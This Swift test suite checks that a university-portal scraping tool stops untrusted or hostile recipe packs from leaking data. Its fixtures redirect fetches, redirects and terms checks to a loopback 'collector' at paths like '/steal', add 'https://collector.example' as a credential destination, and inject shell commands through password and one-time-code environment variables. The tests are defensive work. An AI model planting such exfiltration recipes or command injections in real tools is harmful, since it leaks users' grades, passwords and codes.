import DemoUniversity
import Foundation
import Testing
import UniToolTestSupport

/// Recipe packs that try every way out of their portal: each sends a request that a recipe
/// causes (fetch, read, next, an option's resolve, an action, a service, a redirect, the terms
/// check) towards a listener on another loopback address. The listener must see no connection
/// at all: refused before sending, not after the answer.
@Suite("Security round three: a recipe pack reaches only its portal's origins")
struct HostilePackTests {
    let sandbox: Sandbox

    init() throws {
        sandbox = try Sandbox()
        try sandbox.acceptTerms(portal: "demo", version: DemoUniversity.initialTermsVersion)
    }

    /// Writes `files` (path inside the pack → text) into a new pack folder.
    func pack(_ files: [String: String]) throws -> URL {
        let pack = sandbox.root.appendingPathComponent("pack-\(UUID().uuidString)")
        for (path, text) in files {
            let file = pack.appendingPathComponent(path)
            try FileManager.default.createDirectory(at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
            try text.write(to: file, atomically: true, encoding: .utf8)
        }
        return pack
    }

    func run(_ arguments: [String], demo: DemoUniversity? = nil, stdin: String? = nil) async throws -> UniToolProcess.Outcome {
        try await sandbox.run(arguments, demo: demo?.baseURL, stdin: stdin)
    }

    /// The demo's grades recipe with `edit` applied: the command a pack would slip in.
    func grades(_ edit: (String) -> String) throws -> String {
        edit(try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/grades.yaml"), encoding: .utf8))
    }

    @Test("a trusted pack's demo commands that point fetch, read, next, resolve or an action elsewhere send nothing there")
    func everyWayOutOfTheDemo() async throws {
        let collector = try RecordingHTTPServer(host: "127.0.0.9") { _ in .status(200, body: "<p>stolen</p>") }
        defer { collector.stop() }
        let away = collector.baseURL.absoluteString
        try await DemoUniversity.withRunning { demo in
            // Each command of the pack, and the word its refusal names.
            let commands: [(command: String, text: String, kind: String)] = [
                (
                    "grades",
                    try grades { $0.replacingOccurrences(of: "fetch: /grades?term={{term}}", with: "fetch: \(away)/steal?term={{term}}") },
                    "'fetch'"
                ),
                (
                    "grades-read",
                    try grades {
                        $0.replacingOccurrences(of: "command: grades", with: "command: grades-read")
                            .replacingOccurrences(
                                of: "fetch: /grades?term={{term}}",
                                with:
                                    "read:\n  code: { fetch: \"\(away)/read?term={{term}}\", xpath: \"//p\" }\nfetch: /grades?term={{term}}"
                            )
                    },
                    "'read'"
                ),
                (
                    "grades-next",
                    try grades {
                        $0.replacingOccurrences(of: "command: grades", with: "command: grades-next")
                            .replacingOccurrences(
                                of: "fetch: /grades?term={{term}}",
                                with: "fetch: /grades?term={{term}}\nnext: \"concat('\(away)/next?code=', //td[@class='code'])\"")
                    },
                    "'next'"
                ),
                (
                    "grades-resolve",
                    try grades {
                        $0.replacingOccurrences(of: "command: grades", with: "command: grades-resolve")
                            .replacingOccurrences(
                                of: "current: { fetch: /grades,", with: "current: { fetch: \"\(away)/resolve\",")
                    },
                    "'resolve'"
                ),
                (
                    "renew-elsewhere",
                    """
                    command: renew-elsewhere
                    summary: Loans, and a renewal that reads its form elsewhere
                    fetch: /library/loans
                    rows: "//table[@id='loans']/tbody/tr"
                    fields:
                      barcode: { xpath: "td[@class='barcode']", required: true, key: true }
                    actions:
                      renew:
                        summary: Renew a loan
                        argument: barcode
                        fetch: "\(away)/renew?barcode={{barcode}}"
                        form: "//form"
                        success_when: "//p"
                    """,
                    "action"
                ),
            ]
            var files: [String: String] = [:]
            for entry in commands { files["demo/\(entry.command).yaml"] = entry.text }
            let pack = try pack(files)
            // Trusted, so that the origin policy, not the trust check, is what stops them.
            let trust = try await run(["recipes", "trust", pack.path])
            #expect(trust.exitCode == 0, "\(trust)")

            for entry in commands {
                var arguments = ["--recipes", pack.path, "--portal", "demo", entry.command]
                if entry.command == "renew-elsewhere" { arguments += ["renew", "31000101"] }
                // Every term: 'current' is read from the selector's page, which shows its records
                // (shows_records), so the recipe's own address would not be asked for.
                if entry.command == "grades" { arguments += ["--term", "all"] }
                let outcome = try await run(arguments, demo: demo)
                #expect(outcome.exitCode == 23, "\(entry.command): \(outcome)")
                #expect(
                    outcome.stderr.contains("refusing to send a request to \(collector.baseURL.absoluteString)"),
                    "\(entry.command): \(outcome)"
                )
                #expect(outcome.stderr.contains(entry.kind), "\(entry.command) names what asked: \(outcome)")
                #expect(outcome.stdout.isEmpty, "\(entry.command) printed nothing: \(outcome)")
            }
            #expect(collector.connections == 0, "the collector saw \(collector.connections) connections: \(collector.requests.map(\.path))")
            // The user's own grades still work beside the pack's refused ones.
            let own = try await run(["--portal", "demo", "grades", "--json"], demo: demo)
            #expect(own.exitCode == 0, "\(own)")
        }
    }

    @Test("without trust, a pack's command for a portal it does not define is refused, naming both files; lint and list say so")
    func untrustedCommandIsRefused() async throws {
        try await DemoUniversity.withRunning { demo in
            let pack = try pack([
                "demo/grades.yaml": try grades { $0 },
                "demo/loan-status.yaml": try grades { $0.replacingOccurrences(of: "command: grades", with: "command: loan-status") },
            ])
            let grades = try await run(["--recipes", pack.path, "--portal", "demo", "grades"], demo: demo)
            #expect(grades.exitCode == 23, "\(grades)")
            #expect(grades.stderr.contains(pack.appendingPathComponent("demo/grades.yaml").path), "the pack's file: \(grades)")
            #expect(grades.stderr.contains("Recipes/demo/grades.yaml"), "the file it would replace: \(grades)")
            #expect(grades.stderr.contains("Recipes/demo/portal.yaml"), "the portal's definition: \(grades)")
            #expect(grades.stderr.contains("unitool recipes trust"), "\(grades)")
            #expect(grades.stdout.isEmpty)
            let added = try await run(["--recipes", pack.path, "--portal", "demo", "loan-status"], demo: demo)
            #expect(added.exitCode == 23, "\(added)")
            #expect(added.stderr.contains("adds 'loan-status' to portal 'demo'"), "\(added)")
            let requestsBefore = await demo.requests.count
            #expect(requestsBefore == 0, "nothing was asked of the portal")

            let lint = try await run(["recipes", "lint", pack.path])
            #expect(lint.exitCode == 23, "lint reports what the pack would redefine: \(lint)")
            #expect(lint.stderr.contains("replaces 'grades' of portal 'demo'") && lint.stderr.contains("adds 'loan-status'"), "\(lint)")
            let lintAll = try await run(["--recipes", pack.path, "recipes", "lint"])
            #expect(lintAll.exitCode == 23, "\(lintAll)")

            let list = try await run(["--recipes", pack.path, "recipes", "list", "--json"])
            #expect(list.exitCode == 0, "\(list)")
            let rows = try #require(try JSONSerialization.jsonObject(with: Data(list.stdout.utf8)) as? [[String: Any]])
            let row = try #require(rows.first { $0["command"] as? String == "loan-status" })
            #expect(row["from"] as? String == "pack, refused", "\(row)")
            let ownGrades = try #require(rows.first { $0["command"] as? String == "courses" })
            #expect(ownGrades["from"] as? String == "bundled", "\(ownGrades)")

            // Trusted through a symbolic link, withdrawn by the real path.
            let link = sandbox.root.appendingPathComponent("link-to-pack")
            try FileManager.default.createSymbolicLink(at: link, withDestinationURL: pack)
            let trust = try await run(["recipes", "trust", link.path])
            #expect(trust.exitCode == 0 && trust.stderr.contains("as the command 'grades' of 'demo'"), "\(trust)")
            let trusted = try await run(["--recipes", pack.path, "--portal", "demo", "grades", "--json"], demo: demo)
            #expect(trusted.exitCode == 0, "\(trusted)")
            let listed = try await run(["--recipes", pack.path, "recipes", "list", "--json"])
            #expect(listed.stdout.contains("\"trusted pack\""), "\(listed)")
            let untrust = try await run(["recipes", "untrust", pack.path])
            #expect(untrust.exitCode == 0 && untrust.stderr.contains("Withdrew trust from 2 files"), "\(untrust)")
            let again = try await run(["--recipes", link.path, "--portal", "demo", "grades"], demo: demo)
            #expect(again.exitCode == 23, "untrusting the real path withdrew the trust given through the link: \(again)")
        }
    }

    @Test("a portal of the pack's own whose POST a 307 sends elsewhere, or whose services and terms point elsewhere, sends nothing there")
    func redirectServiceAndTerms() async throws {
        let collector = try RecordingHTTPServer(host: "127.0.0.9") { _ in .status(200, body: "<p>stolen</p>") }
        defer { collector.stop() }
        let away = collector.baseURL.absoluteString
        // The pack's own portal: a form POST answered with a 307 to the collector.
        let portal = try RecordingHTTPServer(host: "127.0.0.1") { request in
            if request.method == "POST" { return .status(307, headers: ["Location": "\(away)/collect"]) }
            return .status(200, body: "<html><body><table id='t'><tr><td>A</td></tr></table></body></html>")
        }
        defer { portal.stop() }
        let base = portal.baseURL.absoluteString
        let portalYAML = """
            portal: hostile
            name: Hostile University
            base_url: \(base)
            credentials_may_go_to: [portal]
            login: { pages: [{ name: form, when: "//form[@id='login']", fill: { u: "{{username}}" } }] }

            """
        let pack = try pack([
            "hostile/portal.yaml": portalYAML,
            "hostile/post.yaml": """
            command: post
            summary: A search that the portal redirects
            login: false
            options: { q: { default: "grade-A" } }
            fetch: /search
            method: post
            form: { q: "{{q}}" }
            rows: "//tr"
            fields: { cell: { xpath: td } }
            """,
            "hostile/service.yaml": """
            command: service
            summary: A service the portal does not declare
            login: false
            service: collector
            fetch: /
            rows: "//tr"
            fields: { cell: { xpath: td } }
            """,
            "termsy/portal.yaml": """
            portal: termsy
            name: Terms elsewhere
            base_url: \(base)
            credentials_may_go_to: [portal]
            login: { pages: [{ name: form, when: "//form[@id='login']", fill: { u: "{{username}}" } }] }
            terms: { version_api: "\(away)/terms", version_field: version }

            """,
            "termsy/table.yaml": """
            command: table
            summary: A table
            login: false
            fetch: /
            rows: "//tr"
            fields: { cell: { xpath: td } }
            """,
        ])
        // A service that is not declared is refused when the recipes are read.
        let service = try await run(["--recipes", pack.path, "recipes", "lint"])
        #expect(service.exitCode == 31, "\(service)")
        #expect(service.stderr.contains("service: 'collector' is not a service of portal 'hostile'"), "\(service)")
        try FileManager.default.removeItem(at: pack.appendingPathComponent("hostile/service.yaml"))

        let post = try await run(["--recipes", pack.path, "--portal", "hostile", "--user", "x", "post"])
        #expect(post.exitCode == 23, "\(post)")
        #expect(post.stderr.contains("refusing to send a request to \(away)"), "\(post)")
        #expect(
            portal.requests.contains { $0.method == "POST" && $0.body == "q=grade-A" },
            "the portal had the POST")

        let terms = try await run(["--recipes", pack.path, "--portal", "termsy", "--user", "x", "table"])
        #expect(terms.exitCode == 23, "\(terms)")
        #expect(terms.stderr.contains("terms of use"), "\(terms)")
        #expect(collector.connections == 0, "the collector saw \(collector.requests.map(\.path))")
    }

    @Test("no password or code command runs for a portal defined by a pack the user has not trusted")
    func passwordCommandForUntrustedPortal() async throws {
        try await DemoUniversity.withRunning { demo in
            let marker = sandbox.root.appendingPathComponent("command-ran")
            let folder = try sandbox.installPortalCopy("mine", at: demo.baseURL)
            let pack = sandbox.root.appendingPathComponent("pack-own-portal")
            try FileManager.default.createDirectory(at: pack, withIntermediateDirectories: true)
            try FileManager.default.moveItem(at: folder, to: pack.appendingPathComponent("mine"))
            try sandbox.acceptTerms(portal: "mine", version: DemoUniversity.initialTermsVersion)
            let command = "touch '\(marker.path)'; echo 123456"
            let password = try await sandbox.run(
                ["--recipes", pack.path, "--portal", "mine", "--user", "alice", "grades"], demo: demo.baseURL,
                extra: ["UNITOOL_PASSWORD_COMMAND": command])
            #expect(password.exitCode == 40, "\(password)")
            #expect(password.stderr.contains("UNITOOL_PASSWORD_COMMAND is not run for 'mine'"), "\(password)")
            #expect(password.stderr.contains("unitool recipes trust \(pack.resolvingSymlinksInPath().path)"), "\(password)")
            // yuki's password typed in, as the user may; the one-time code from the command is not.
            let code = try await sandbox.run(
                ["--recipes", pack.path, "--portal", "mine", "--user", "yuki", "--password-stdin", "grades"], demo: demo.baseURL,
                stdin: "sakura-2026", extra: ["UNITOOL_TOTP_COMMAND": command])
            #expect(code.exitCode == 40, "\(code)")
            #expect(code.stderr.contains("UNITOOL_TOTP_COMMAND is not run for 'mine'"), "\(code)")
            #expect(!FileManager.default.fileExists(atPath: marker.path), "neither command ran")
            let (accepted, passwords) = (await demo.codesAccepted, await demo.passwordsReceived)
            #expect(accepted == 0 && passwords == 1, "only the typed password reached the IdP")

            let trust = try await run(["recipes", "trust", pack.path])
            #expect(trust.exitCode == 0 && trust.stderr.contains("a portal of the pack's own"), "\(trust)")
            let trusted = try await sandbox.run(
                ["--recipes", pack.path, "--portal", "mine", "--user", "alice", "grades", "--json"], demo: demo.baseURL,
                extra: ["UNITOOL_PASSWORD_COMMAND": "touch '\(marker.path)'; echo wonderland"])
            #expect(trusted.exitCode == 0, "\(trusted)")
            #expect(FileManager.default.fileExists(atPath: marker.path), "trusted, the command runs")
        }
    }

    @Test("a trusted pack that moves a portal gets no one-time code: not from the stored TOTP secret, not from the command")
    func movedPortalGetsNoCodes() async throws {
        try await DemoUniversity.withRunning { demo in
            // A portal of the user's own (not the shared demo id: the keyring is shared by the suites).
            let folder = try sandbox.installPortalCopy("moving", at: demo.baseURL)
            try sandbox.acceptTerms(portal: "moving", version: DemoUniversity.initialTermsVersion)
            let stored = try await run(
                ["auth", "totp", "set", "--portal", "moving", "--user", "yuki"], demo: demo,
                stdin: "otpauth://totp/Demo:yuki?secret=JBSWY3DPEHPK3PXP")
            #expect(stored.exitCode == 0, "\(stored)")
            defer { Task { _ = try? await run(["auth", "logout", "--portal", "moving", "--user", "yuki"]) } }
            #expect(
                try SecretTool.run(["search", "service", "unitool", "portal", "moving", "username", "yuki", "kind", "totp"]).contains(
                    "origins = \(demo.baseURL.absoluteString.trimmingCharacters(in: CharacterSet(charactersIn: "/")))"))

            let original = try String(contentsOf: folder.appendingPathComponent("portal.yaml"), encoding: .utf8)
            let moved = original.replacingOccurrences(
                of: "credentials_may_go_to: [idp]", with: "credentials_may_go_to: [idp, \"https://collector.example\"]")
            #expect(moved != original)
            let pack = try pack(["moving/portal.yaml": moved])
            let trust = try await run(["recipes", "trust", pack.path])
            #expect(trust.exitCode == 0, "\(trust)")

            let marker = sandbox.root.appendingPathComponent("code-command-ran")
            for extra in [[:], ["UNITOOL_TOTP_COMMAND": "touch '\(marker.path)'; echo 123456"]] {
                let outcome = try await sandbox.run(
                    ["--recipes", pack.path, "--portal", "moving", "--user", "yuki", "--password-stdin", "grades"], demo: demo.baseURL,
                    stdin: "sakura-2026", extra: extra)
                #expect(outcome.exitCode == 40, "\(outcome)")
                #expect(outcome.stderr.contains("https://collector.example"), "the message names where codes would go: \(outcome)")
            }
            #expect(!FileManager.default.fileExists(atPath: marker.path), "the code command never ran")
            let (accepted, reused) = (await demo.codesAccepted, await demo.reusedCodes)
            #expect(accepted == 0 && reused == 0, "the moved portal received no one-time code")

            // Without the pack the stored secret serves the portal it was stored for.
            let own = try await sandbox.run(
                ["--portal", "moving", "--user", "yuki", "--password-stdin", "grades", "--json"], demo: demo.baseURL, stdin: "sakura-2026")
            #expect(own.exitCode == 0, "\(own)")
            let acceptedAfter = await demo.codesAccepted
            #expect(acceptedAfter == 1)
        }
    }
}
